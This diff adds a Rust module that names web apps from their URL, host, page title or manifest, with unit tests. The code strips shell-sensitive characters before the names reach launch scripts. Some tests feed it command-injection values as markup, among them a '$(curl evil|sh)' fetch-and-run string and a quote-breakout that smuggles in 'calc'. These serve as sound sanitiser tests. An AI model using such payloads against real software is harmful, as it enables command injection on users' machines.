@@ -0,0 +1,423 @@
+//! Application names from a site's host or markup.
+use super::manifest::Manifest;
+use super::psl::List;
+use idna;
+use scraper::{Html, Selector};
+use std::iter::once;
+use std::net::IpAddr;
+use url::{Host, Url};
+
+/// Subdomains that say nothing about the app they host.
+const GENERIC_SUBDOMAINS: &[&str] = &[
+    "www", "www1", "www2", "www3", "m", "mobile", "app", "apps", "web", "webapp", "portal",
+    "secure", "login", "auth", "sso", "account", "accounts", "my", "home", "en", "beta", "static",
+    "cdn",
+];
+
+/// Name a site after its url.
+///
+/// Domains are named by from_host. Sites served locally are named after the
+/// host and port, since the port is what tells them apart: "localhost-3000",
+/// "192-168-1-10-8080". Loopback addresses count as "localhost". Files are
+/// named after the directory they're in.
+pub fn from_url(list: &List, url: &Url, subdomain: bool) -> Option<String> {
+    if url.scheme() == "file" {
+        return from_file(url);
+    }
+    let host = match url.host()? {
+        Host::Domain(host) if host.trim_end_matches('.') == "localhost" => "localhost".into(),
+        Host::Domain(host) => return from_host(list, host, subdomain),
+        Host::Ipv4(addr) if addr.is_loopback() => "localhost".into(),
+        Host::Ipv6(addr) if addr.is_loopback() => "localhost".into(),
+        Host::Ipv4(addr) => IpAddr::V4(addr).to_string(),
+        Host::Ipv6(addr) => IpAddr::V6(addr).to_string(),
+    };
+    let words: Vec<String> = host
+        .split(&['.', ':'][..])
+        .filter(|part| !part.is_empty())
+        .map(String::from)
+        .chain(url.port().map(|port| port.to_string()))
+        .collect();
+    Some(words.join("-"))
+}
+
+/// Name a local file after the directory it's in, or the directory itself if
+/// the url points at one.
+fn from_file(url: &Url) -> Option<String> {
+    let path = url.to_file_path().ok()?;
+    let dir = if url.path().ends_with('/') {
+        path.as_path()
+    } else {
+        path.parent()?
+    };
+    dir.file_name().map(|name| name.to_string_lossy().into())
+}
+
+/// Name a site after its host, using the label of its registrable domain:
+/// "bbc" for "www.bbc.co.uk", "example" for "app.example.co.uk".
+///
+/// With subdomain set, the subdomain closest to the registrable domain that
+/// says something about the app is included and the words are capitalized, so
+/// "mail.google.com" becomes "Google Mail".
+///
+/// Single label hosts, common on intranets, are named as is: "wiki".
+pub fn from_host(list: &List, host: &str, subdomain: bool) -> Option<String> {
+    let host = host.trim_end_matches('.');
+    let registrable = match list.registrable(host) {
+        Some(registrable) => registrable,
+        None if !host.is_empty() && !host.contains('.') => host,
+        None => return None,
+    };
+    let label = registrable.split('.').next()?;
+    if !subdomain {
+        return Some(unicode(label));
+    }
+    let sub = host[..host.len() - registrable.len()]
+        .trim_end_matches('.')
+        .rsplit('.')
+        .find(|l| {
+            !l.is_empty()
+                && *l != label
+                && !GENERIC_SUBDOMAINS.contains(l)
+                && !l.chars().all(|c| c.is_ascii_digit())
+        });
+    let labels: Vec<String> = once(label).chain(sub).map(unicode).collect();
+    let words: Vec<String> = labels
+        .iter()
+        .flat_map(|l| l.split('-'))
+        .filter(|word| !word.is_empty())
+        .map(capitalize)
+        .collect();
+    Some(words.join(" "))
+}
+
+/// Segments of a title that describe the page rather than the site.
+const GENERIC: &[&str] = &[
+    "home",
+    "homepage",
+    "home page",
+    "welcome",
+    "dashboard",
+    "start",
+    "index",
+    "sign in",
+    "sign up",
+    "signin",
+    "log in",
+    "login",
+    "log on",
+    "logon",
+    "register",
+    "inbox",
+    "loading",
+    "loading...",
+];
+
+/// Characters dropped from names found in markup, which is written by the
+/// site rather than the user. Names end up quoted in the bundle's launch
+/// scripts, where these could end the quotes or expand to something else.
+const UNSAFE: &[char] = &['"', '`', '$', '%', '\\'];
+
+/// Choose a name from a page's markup and manifest, in order of preference:
+/// `<meta name="application-name">`, `<meta property="og:site_name">`, the
+/// manifest's short name and name, then the cleaned up `<title>`.
+///
+/// host is used to recognize the site's name among the parts of a title.
+/// Control characters and the characters in UNSAFE are dropped.
+pub fn from_page(doc: &Html, manifest: Option<&Manifest>, host: &str) -> Option<String> {
+    meta(doc, r#"meta[name="application-name"]"#)
+        .or_else(|| meta(doc, r#"meta[property="og:site_name"]"#))
+        .or_else(|| manifest.and_then(|m| m.short_name.clone()))
+        .or_else(|| manifest.and_then(|m| m.name.clone()))
+        .map(|name| safe(&name))
+        .filter(|name| !name.is_empty())
+        .or_else(|| {
+            let title = Selector::parse("title").unwrap();
+            doc.select(&title)
+                .next()
+                .and_then(|el| clean_title(&safe(&el.text().collect::<String>()), host))
+        })
+}
+
+/// Clean a page title down to the name of the site, dropping notification
+/// counts and generic parts such as " - Home" or " | Sign in".
+///
+/// When a title has several parts, the part that resembles host is preferred,
+/// then the last part, since sites usually suffix titles with their name.
+pub fn clean_title(title: &str, host: &str) -> Option<String> {
+    let title = collapse(title);
+    let parts: Vec<&str> = strip_count(&title)
+        .split(&['|', '·', '—', '–', '•'][..])
+        .flat_map(|part| part.split(" - "))
+        .flat_map(|part| part.split(": "))
+        .map(|part| part.trim())
+        .filter(|part| !part.is_empty() && !GENERIC.contains(&part.to_lowercase().as_str()))
+        .collect();
+    parts
+        .iter()
+        .find(|part| {
+            let part = simplify(part);
+            host.split('.').any(|label| simplify(label) == part)
+        })
+        .or_else(|| parts.last())
+        .map(|part| part.to_string())
+}
+
+/// Strip a leading notification count, as in "(3) Inbox".
+fn strip_count(title: &str) -> &str {
+    if let Some(rest) = title.strip_prefix('(') {
+        if let Some(end) = rest.find(')') {
+            if rest[..end].chars().all(|c| c.is_ascii_digit() || c == '+') {
+                return rest[end + 1..].trim_start();
+            }
+        }
+    }
+    title
+}
+
+fn meta(doc: &Html, selector: &str) -> Option<String> {
+    let selector = Selector::parse(selector).unwrap();
+    doc.select(&selector)
+        .filter_map(|el| el.value().attr("content"))
+        .map(collapse)
+        .find(|content| !content.is_empty())
+}
+
+/// Decode an internationalized label from its punycode form for display, so
+/// "xn--mnchen-3ya" becomes "münchen".
+fn unicode(label: &str) -> String {
+    if label.starts_with("xn--") {
+        if let (decoded, Ok(())) = idna::domain_to_unicode(label) {
+            return decoded;
+        }
+    }
+    label.into()
+}
+
+fn capitalize(word: &str) -> String {
+    let mut chars = word.chars();
+    match chars.next() {
+        Some(first) => first.to_uppercase().chain(chars).collect(),
+        None => String::new(),
+    }
+}
+
+/// Drop control characters and those in UNSAFE from s, collapsing runs of
+/// whitespace.
+fn safe(s: &str) -> String {
+    let kept: String = s
+        .chars()
+        .filter(|&c| (c.is_whitespace() || !c.is_control()) && !UNSAFE.contains(&c))
+        .collect();
+    collapse(&kept)
+}
+
+/// Collapse runs of whitespace into single spaces.
+fn collapse(s: &str) -> String {
+    s.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+/// Lowercase s, keeping only letters and digits, for loose comparison.
+fn simplify(s: &str) -> String {
+    s.chars()
+        .filter(|c| c.is_alphanumeric())
+        .flat_map(char::to_lowercase)
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn hosts() {
+        let list = List::embedded();
+        for (host, subdomain, expected) in &[
+            ("www.bbc.co.uk", false, Some("bbc")),
+            ("bbc.co.uk", false, Some("bbc")),
+            // Names are capitalized word by word with subdomain set. Brands
+            // spelled in capitals, such as "BBC", can't be told apart.
+            ("www.bbc.co.uk", true, Some("Bbc")),
+            ("app.example.co.uk", false, Some("example")),
+            ("app.example.co.uk", true, Some("Example")),
+            ("mail.google.com", false, Some("google")),
+            ("mail.google.com", true, Some("Google Mail")),
+            ("google.com", true, Some("Google")),
+            // Likewise "Github" rather than "GitHub": the markup, through
+            // from_page, is where a brand's spelling comes from.
+            ("github.com", true, Some("Github")),
+            ("a.b.c.d.com", false, Some("d")),
+            // Only the subdomain closest to the registrable domain is kept.
+            ("a.b.c.d.com", true, Some("D C")),
+            ("myapp.github.io", false, Some("myapp")),
+            ("myapp.github.io", true, Some("Myapp")),
+            ("shop.example.ck", false, Some("shop")),
+            ("www.ck", false, Some("www")),
+            ("co.uk", false, None),
+            ("co.uk", true, None),
+            ("xn--mnchen-3ya.de", false, Some("münchen")),
+            ("stadt.xn--mnchen-3ya.de", true, Some("München Stadt")),
+            ("my-app.example.com", true, Some("Example My App")),
+            ("wiki", false, Some("wiki")),
+        ] {
+            assert_eq!(
+                from_host(&list, host, *subdomain).as_deref(),
+                *expected,
+                "{} (subdomain: {})",
+                host,
+                subdomain
+            );
+        }
+    }
+
+    #[test]
+    fn urls() {
+        let list = List::embedded();
+        for (url, expected) in &[
+            ("https://mail.google.com/inbox", Some("google")),
+            ("http://wiki/", Some("wiki")),
+            ("http://wiki.corp/", Some("wiki")),
+            ("http://localhost:3000/", Some("localhost-3000")),
+            ("http://localhost./", Some("localhost")),
+            ("http://127.0.0.1:8080/", Some("localhost-8080")),
+            ("http://[::1]:8080/", Some("localhost-8080")),
+            ("http://192.168.1.10/", Some("192-168-1-10")),
+            ("http://192.168.1.10:8080/", Some("192-168-1-10-8080")),
+            ("http://[fd00::1]/", Some("fd00-1")),
+        ] {
+            let url = Url::parse(url).unwrap();
+            assert_eq!(
+                from_url(&list, &url, false).as_deref(),
+                *expected,
+                "{}",
+                url
+            );
+        }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn file_urls() {
+        let list = List::embedded();
+        for (url, expected) in &[
+            ("file:///home/me/site/index.html", Some("site")),
+            ("file:///home/me/site/", Some("site")),
+            ("file:///", None),
+        ] {
+            let url = Url::parse(url).unwrap();
+            assert_eq!(
+                from_url(&list, &url, false).as_deref(),
+                *expected,
+                "{}",
+                url
+            );
+        }
+    }
+
+    #[test]
+    fn titles() {
+        for (title, host, expected) in &[
+            ("Example", "example.com", Some("Example")),
+            ("  Spaced \n  Out ", "example.com", Some("Spaced Out")),
+            // Generic parts are dropped.
+            ("GitHub - Home", "github.com", Some("GitHub")),
+            (
+                "Sign in | Example Corp",
+                "example.com",
+                Some("Example Corp"),
+            ),
+            ("Welcome: Wiki", "wiki", Some("Wiki")),
+            ("Dashboard", "example.com", None),
+            ("", "example.com", None),
+            // As are notification counts.
+            ("(3) Inbox - Gmail", "mail.google.com", Some("Gmail")),
+            ("(99+) Facebook", "facebook.com", Some("Facebook")),
+            ("(beta) Product", "example.com", Some("(beta) Product")),
+            // The part resembling the host wins, then the last part.
+            ("BBC - Homepage", "www.bbc.co.uk", Some("BBC")),
+            ("BBC News · World", "bbc.co.uk", Some("World")),
+            (
+                "Stack Overflow - Where Developers Learn",
+                "stackoverflow.com",
+                Some("Stack Overflow"),
+            ),
+            (
+                "Issues · rust-lang/rust — GitHub",
+                "github.com",
+                Some("GitHub"),
+            ),
+            (
+                "Docs – Getting started",
+                "example.com",
+                Some("Getting started"),
+            ),
+        ] {
+            assert_eq!(
+                clean_title(title, host).as_deref(),
+                *expected,
+                "{:?} on {}",
+                title,
+                host
+            );
+        }
+    }
+
+    #[test]
+    fn pages() {
+        let manifest = Manifest {
+            name: Some("Example Application".into()),
+            short_name: Some("Example".into()),
+            ..Manifest::default()
+        };
+        for (markup, manifest, expected) in &[
+            (
+                r#"<meta name="application-name" content="App"><meta property="og:site_name" content="Site"><title>Title</title>"#,
+                Some(&manifest),
+                Some("App"),
+            ),
+            (
+                r#"<meta property="og:site_name" content=" Site "><title>Title</title>"#,
+                Some(&manifest),
+                Some("Site"),
+            ),
+            ("<title>Title</title>", Some(&manifest), Some("Example")),
+            ("<title>Home - Title</title>", None, Some("Title")),
+            (
+                r#"<meta name="application-name" content=""><title>Title</title>"#,
+                None,
+                Some("Title"),
+            ),
+            ("", None, None),
+            // Names end up in launch scripts, so nothing that could break out
+            // of their quotes or expand survives.
+            (
+                r#"<meta name="application-name" content="$(curl evil|sh)">"#,
+                None,
+                Some("(curl evil|sh)"),
+            ),
+            (
+                r#"<meta name="application-name" content="Evil&quot; &amp; calc &amp; &quot;">"#,
+                None,
+                Some("Evil & calc &"),
+            ),
+            (
+                r#"<meta name="application-name" content="`id` %PATH% \&#7;">"#,
+                None,
+                Some("id PATH"),
+            ),
+            (
+                r#"<meta name="application-name" content="$`%&quot;"><title>Joe's "Pizza"</title>"#,
+                None,
+                Some("Joe's Pizza"),
+            ),
+        ] {
+            let doc = Html::parse_document(markup);
+            assert_eq!(
+                from_page(&doc, *manifest, "example.com").as_deref(),
+                *expected,
+                "{}",
+                markup
+            );
+        }
+    }
+}